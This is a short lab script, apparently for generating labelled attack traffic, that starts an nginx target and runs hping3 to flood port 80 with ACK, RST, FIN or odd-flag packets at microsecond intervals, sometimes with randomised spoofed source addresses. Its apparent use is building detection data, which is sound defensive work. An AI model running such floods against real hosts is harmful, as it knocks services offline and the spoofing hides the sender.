# SPDX-License-Identifier: MIT
# label: dos-syn
# source: lab-hping3
# needs: hping3 nginx
# seconds: 60
# ACK, RST or odd flags without a connection.
. $lab/victims.sh

servers() {
	victim_site a 80
}

scenario() {
	_flags=$(choose -A -R "-P -A" -F "-S -F")
	_spoof=$(choose "" "--rand-source")
	_gap=$(choose u500 u2000)
	setting options "$_flags -i $_gap $_spoof"
	intent_begin '*' a tcp 80
	on t timeout "$(pick 10 20)" hping3 -q -n $_flags -p 80 -i "$_gap" $_spoof "$(addr a)"
	intent_end
}
